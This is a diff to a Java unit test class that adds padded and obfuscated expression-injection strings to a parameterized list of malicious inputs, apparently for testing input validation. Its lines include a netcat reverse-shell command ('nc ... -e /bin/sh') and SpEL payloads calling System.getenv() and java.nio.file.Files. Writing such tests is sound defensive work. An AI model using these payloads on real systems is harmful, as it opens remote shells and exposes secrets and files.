@@ -70,6 +70,9 @@ class PaddedTextTest {
         arguments(REVERSE, started(MARKS + "\nnc 192.0.2.7 -e /bin/sh")),
         arguments(TYPE, script(MARKS + ".concat(T(java.lang.System).getenv())")),
         arguments(TYPE, script(MARKS + ".concat(T(System).getenv())")),
+        arguments(TYPE, script(MARKS + ".concat(T(java nio file Files))")),
+        arguments(TYPE, script("T(".repeat(1_900) + "(T (.java" + " .".repeat(60) + "nio)")),
+        arguments(TYPE, script("T" + "\0".repeat(3_900) + "(java nio)")),
         arguments(
             TYPE, script("new" + " ".repeat(3_950) + "String('a').concat(T(java.lang.System))")),
         arguments(
